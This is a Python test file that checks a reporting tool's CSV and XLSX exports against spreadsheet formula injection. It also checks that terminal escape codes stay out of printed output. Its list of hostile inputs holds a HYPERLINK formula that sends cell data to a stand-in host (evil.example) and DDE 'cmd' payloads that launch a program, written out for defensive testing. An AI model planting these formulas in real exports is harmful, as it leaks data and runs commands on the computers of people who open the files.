"""No export cell runs in a spreadsheet: CSV text is neutralised, XLSX text is a string."""

from __future__ import annotations

import csv
import dataclasses
import string
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bewustwerven.core.cells import csv_cell, is_formula_like, printable
from bewustwerven.reports import write_organisation
from tests.reports.test_builders import count, org

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def with_channels(labels: tuple[str, ...]) -> object:
    cells = tuple((10 + i, 5, 2, 1) for i in range(len(labels)))
    ch = count("channel_funnel", labels, "channel", cells)
    return dataclasses.replace(org(), channel_selected=ch, channels=ch)


def all_cells(path: Path) -> list[object]:
    wb = load_workbook(path)
    return [c for ws in wb for row in ws.iter_rows() for c in row]


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))


def test_each_trigger_is_neutralised_but_numbers_stay() -> None:
    for value in HOSTILE:
        assert is_formula_like(value)
        assert csv_cell(value) == "'" + value
    assert csv_cell(-3) == -3 and csv_cell(-0.25) == -0.25
    assert csv_cell("-3") == "-3" and csv_cell("-0,25") == "-0,25" and csv_cell("+31") == "+31"
    assert csv_cell("Netwerk Divers") == "Netwerk Divers"
    assert csv_cell("–") == "–"  # the hidden mark (an en dash) is no trigger


def test_channel_values_in_organisation_csv_are_not_formulas(tmp_path: Path) -> None:
    path = tmp_path / "o.csv"
    write_organisation(with_channels(HOSTILE), path, lang="nl")  # type: ignore[arg-type]
    cells = [c for r in csv_rows(path) for c in r]
    for value in HOSTILE:
        assert value not in cells  # never raw
        assert "'" + value.replace("\r", "") in [c.replace("\r", "") for c in cells]
    assert not [c for c in cells if c and c[0] in "=+@\t\r" and not c.lstrip("+-").isdigit()]


def test_channel_values_in_organisation_xlsx_are_strings(tmp_path: Path) -> None:
    path = tmp_path / "o.xlsx"
    write_organisation(with_channels(HOSTILE), path, lang="nl")  # type: ignore[arg-type]
    wb = load_workbook(path)
    texts = [c.value for r in wb["channel_funnel"].iter_rows(min_row=3) for c in r]
    for value in HOSTILE:
        assert value.replace("\r", "\n") in texts or value in texts
    for cell in all_cells(path):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
    # numbers stay numbers: the counts are numeric cells
    first = next(r for r in wb["channel_funnel"].iter_rows(min_row=3))
    assert first[1].data_type == "n" and first[1].value == 10


text_values = st.text(
    alphabet=st.sampled_from(list("=+-@\t\r\n;\",'()!|A1 " + string.ascii_letters + "é–0123")),
    min_size=1,
    max_size=20,
)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(labels=st.lists(text_values, min_size=1, max_size=4, unique=True))
def test_no_export_value_becomes_a_formula(tmp_path: Path, labels: list[str]) -> None:
    data = with_channels(tuple(labels))
    x = tmp_path / "h.xlsx"
    c = tmp_path / "h.csv"
    write_organisation(data, x, lang="en")  # type: ignore[arg-type]
    write_organisation(data, c, lang="en")  # type: ignore[arg-type]
    for cell in all_cells(x):
        assert cell.data_type != "f"
        if isinstance(cell.value, str) and cell.value[:1] == "=":
            assert cell.quotePrefix
    with c.open(encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh, delimiter=";"):
            for value in row:
                assert not is_formula_like(value), value


def test_printable_keeps_terminal_control_out() -> None:
    assert printable("Jan\x1b[31m de Vries\nX") == "Jan\\x1b[31m de Vries\\nX"
    assert printable("Zoë Yılmaz") == "Zoë Yılmaz"
